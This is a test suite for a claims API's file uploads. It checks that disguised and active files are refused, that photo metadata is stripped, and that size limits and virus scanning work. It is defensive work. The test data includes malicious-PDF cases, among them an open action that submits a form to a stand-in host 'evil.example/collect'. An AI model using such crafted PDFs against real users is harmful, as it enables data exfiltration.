import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, describe, expect, it } from 'vitest';
import { ClaimsDriver } from '../helpers/claims';
import {
  EICAR,
  brokenPng,
  pdfWithAttachment,
  pdfWithJavaScript,
  pdfWithLaunchAction,
  pdfWithShadowedCatalog,
  photoWithGps,
  plainPdf,
  plainPng,
  windowsProgram,
} from '../helpers/claim-files';
import { startStandInClamd } from '../helpers/clamd';
import { startTestService, type TestService } from '../helpers/service';

const HEALTH = 'IND-2021-004567';
const MiB = 1024 * 1024;

describe('Claim uploads (api-v1.md, Uploads)', () => {
  let t: TestService | undefined;
  let closeClamd: (() => Promise<void>) | undefined;
  afterEach(async () => {
    await t?.close();
    await closeClamd?.();
    t = undefined;
    closeClamd = undefined;
  });

  async function draft(env: Record<string, string> = {}) {
    t = await startTestService('sqlite', { env });
    const budi = await ClaimsDriver.signIn(t, 'Budi Santoso');
    const personId = await budi.personId(HEALTH);
    const created = await budi.call('POST', '/v1/claims', { policyNumber: HEALTH, personId, type: 'outpatient' });
    expect(created.statusCode, created.body).toBe(201);
    return { budi, claimId: created.json().claimId as string, t };
  }

  const storedFiles = (svc: TestService) =>
    fs.readdirSync(path.join(svc.env.DATA_DIR!, 'documents')).filter((f) => !f.endsWith('.tmp'));
  const leftovers = (svc: TestService) => fs.readdirSync(path.join(svc.env.DATA_DIR!, 'uploads'));

  it('refuses what is not what it says, or is active, each with its reason; nothing is kept of any', async () => {
    const { budi, claimId, t: svc } = await draft();
    const cases: Array<[string, Buffer, string, string, string[]?]> = [
      ['a program named .pdf', windowsProgram(), 'application/pdf', 'type_not_allowed'],
      ['a JPEG said to be a PDF', await photoWithGps(), 'application/pdf', 'type_mismatch'],
      ['a PNG that does not decode', brokenPng(), 'image/png', 'image_undecodable'],
      [
        'a PDF that runs JavaScript',
        await pdfWithJavaScript({ plain: true }),
        'application/pdf',
        'pdf_active_content',
        ['javascript'],
      ],
      [
        'JavaScript in an object stream',
        await pdfWithJavaScript(),
        'application/pdf',
        'pdf_active_content',
        ['javascript'],
      ],
      [
        'JavaScript under #-escaped names',
        await pdfWithJavaScript({ escapedName: true }),
        'application/pdf',
        'pdf_active_content',
        ['javascript'],
      ],
      ['a PDF carrying a file', await pdfWithAttachment(), 'application/pdf', 'pdf_active_content', ['embedded_file']],
      [
        'a PDF that launches a program',
        await pdfWithLaunchAction(),
        'application/pdf',
        'pdf_active_content',
        ['launch_action'],
      ],
      [
        'JavaScript in the copy of an object the cross-reference table points at (the last copy clean)',
        pdfWithShadowedCatalog(),
        'application/pdf',
        'pdf_active_content',
        ['javascript'],
      ],
      [
        'a PDF that sends a form when opened',
        pdfWithShadowedCatalog('<< /S /SubmitForm /F (https://evil.example/collect) >>'),
        'application/pdf',
        'pdf_active_content',
        ['open_action'],
      ],
      [
        'a PDF that opens a web page when opened',
        pdfWithShadowedCatalog('<< /S /URI /URI (https://evil.example) >>'),
        'application/pdf',
        'pdf_active_content',
        ['open_action'],
      ],
      [
        'a PDF that opens an embedded file when opened',
        pdfWithShadowedCatalog('<< /S /GoToE /T << /R /C /N (x) >> >>'),
        'application/pdf',
        'pdf_active_content',
        ['open_action'],
      ],
      ['a text file', Buffer.from('hanya teks'), 'text/plain', 'type_not_allowed'],
      ['nothing at all', Buffer.alloc(0), 'application/pdf', 'empty'],
    ];
    for (const [what, bytes, type, reason, found] of cases) {
      const res = await budi.upload(claimId, 'receipt', bytes, type, 'kuitansi.pdf');
      expect(res.statusCode, `${what}: ${res.body}`).toBe(415);
      expect(res.json().error.code, what).toBe('file_type_refused');
      expect(res.json().error.details.reason, what).toBe(reason);
      if (found) expect(res.json().error.details.found, what).toEqual(found);
    }
    expect((await budi.call('GET', `/v1/claims/${claimId}`)).json().files).toEqual([]);
    expect(storedFiles(svc)).toEqual([]);
    expect(leftovers(svc)).toEqual([]);
  });

  it('keeps a PDF as sent and a photo re-encoded without EXIF or GPS, each with the SHA-256 of what is stored', async () => {
    const { budi, claimId } = await draft();
    const pdf = await plainPdf('Kuitansi', 2);
    const kept = await budi.upload(claimId, 'receipt', pdf, 'application/pdf', 'Kuitansi RS/Maret.pdf');
    expect(kept.statusCode, kept.body).toBe(201);
    expect(kept.json()).toMatchObject({
      kind: 'receipt',
      fileName: 'Maret.pdf',
      contentType: 'application/pdf',
      sizeBytes: pdf.length,
      sha256: crypto.createHash('sha256').update(pdf).digest('hex'),
    });

    const photo = await photoWithGps();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const up = await budi.upload(claimId, 'id_card', photo, 'image/jpeg', 'ktp.jpg');
    expect(up.statusCode, up.body).toBe(201);
    const back = await budi.call('GET', `/v1/claims/${claimId}/files/${up.json().fileId}`);
    expect(back.statusCode).toBe(200);
    const meta = await sharp(back.rawPayload).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.format).toBe('jpeg');
    expect(meta.width).toBe(320);
    expect(up.json().sha256).toBe(crypto.createHash('sha256').update(back.rawPayload).digest('hex'));
    expect(up.json().sizeBytes).toBe(back.rawPayload.length);

    const png = await budi.upload(claimId, 'other', await plainPng(), 'image/png', 'foto.png');
    expect(png.statusCode).toBe(201);
    // A declared type with parameters is still that type.
    expect((await budi.upload(claimId, 'other', pdf, 'application/pdf; charset=binary')).statusCode).toBe(201);
  });

  it('refuses a 30 MiB image as too large before reading it', async () => {
    const { budi, claimId, t: svc } = await draft();
    const big = Buffer.alloc(30 * MiB, 0xff);
    const res = await budi.upload(claimId, 'receipt', big, 'image/jpeg', 'besar.jpg');
    expect(res.statusCode).toBe(413);
    expect(res.json().error).toMatchObject({ code: 'file_too_large', details: { maxBytes: 10 * MiB } });
    expect(leftovers(svc)).toEqual([]);
  });

  it('answers 413 over a real connection while the client is still sending, and reads no further', async () => {
    const { budi, claimId, t: svc } = await draft();
    const address = await svc.service.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = new URL(address);
    // Chunked, so that only the cut-off can stop it: 11 MiB sent of a body that would never end.
    const answer = await new Promise<{ head: string; sentMiB: number }>((resolve, reject) => {
      const socket = net.connect(Number(port), '127.0.0.1');
      let sent = 0;
      let head = '';
      const chunk = Buffer.alloc(MiB, 0xff);
      socket.on('data', (d) => {
        head += d.toString('latin1');
        if (head.includes('\r\n\r\n')) {
          resolve({ head, sentMiB: sent });
          socket.destroy();
        }
      });
      socket.on('error', (err) => (head ? resolve({ head, sentMiB: sent }) : reject(err)));
      socket.write(
        `POST /v1/claims/${claimId}/files?kind=receipt HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${budi.token}\r\n` +
          'Content-Type: image/jpeg\r\nTransfer-Encoding: chunked\r\n\r\n',
      );
      const pump = () => {
        if (socket.destroyed || sent >= 11) return;
        socket.write(`${chunk.length.toString(16)}\r\n`);
        socket.write(chunk);
        socket.write('\r\n', () => {
          sent++;
          setTimeout(pump, 5);
        });
      };
      pump();
    });
    expect(answer.head).toMatch(/^HTTP\/1\.1 413/u);
    expect(answer.head.toLowerCase()).toContain('connection: close');
    expect(answer.sentMiB).toBeLessThanOrEqual(11);
    expect(leftovers(svc)).toEqual([]);
  });

  it('scans every file with clamd when CLAMD_URL is set: EICAR is refused, a clean file passes', async () => {
    const clamd = await startStandInClamd();
    closeClamd = () => clamd.close();
    const { budi, claimId, t: svc } = await draft({ CLAMD_URL: clamd.url });
    const infected = await budi.upload(claimId, 'receipt', Buffer.from(`%PDF-1.4\n${EICAR}\n`), 'application/pdf');
    expect(infected.statusCode).toBe(422);
    expect(infected.json().error).toMatchObject({ code: 'file_infected' });
    expect((await budi.upload(claimId, 'receipt', await plainPdf(), 'application/pdf')).statusCode).toBe(201);
    expect(clamd.scanned).toBe(2);
    expect(storedFiles(svc)).toHaveLength(1);
    // With the scanner gone nothing is taken unscanned.
    await clamd.close();
    closeClamd = undefined;
    const down = await budi.upload(claimId, 'receipt', await plainPdf(), 'application/pdf');
    expect(down.statusCode).toBe(503);
    expect(down.json().error.code).toBe('unavailable');
    expect(storedFiles(svc)).toHaveLength(1);
  });
});
